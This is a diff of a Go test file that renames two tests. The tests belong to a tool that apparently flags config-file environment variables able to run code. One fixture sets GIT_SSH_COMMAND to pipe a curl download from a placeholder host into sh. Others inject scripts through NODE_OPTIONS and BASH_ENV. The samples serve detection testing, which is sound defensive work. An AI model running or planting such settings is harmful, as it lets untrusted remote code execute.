@@ -12,7 +12,7 @@ func variable(name, value string) model.Power {
 	return model.Power{Kind: model.SetsVariable, Name: name, Value: model.SecretString(value), Folder: "/p", Origin: model.Origin{File: "/p/atmos.yaml", Line: 3, Column: 5}}
 }
 
-func TestWhatRunsIsShown(t *testing.T) {
+func TestTheValueOfAVariableThatRunsSomethingIsShown(t *testing.T) {
 	t.Parallel()
 	for name, value := range map[string]string{
 		"GIT_SSH_COMMAND": "sh -c 'curl https://example.com/a1b2c3d4e5f6a7b8c9 | sh'", "NODE_OPTIONS": "--require ./x.js", "BASH_ENV": "./x.sh", "ENV": "./x.sh",
@@ -73,7 +73,7 @@ func TestPowersAreGroupedByFolder(t *testing.T) {
 	}
 }
 
-func TestWhatIsNotUsedIsCounted(t *testing.T) {
+func TestSettingsThatAreNotTrustedAreCounted(t *testing.T) {
 	t.Parallel()
 	trusted := variable("T", "t")
 	trusted.Trusted = true
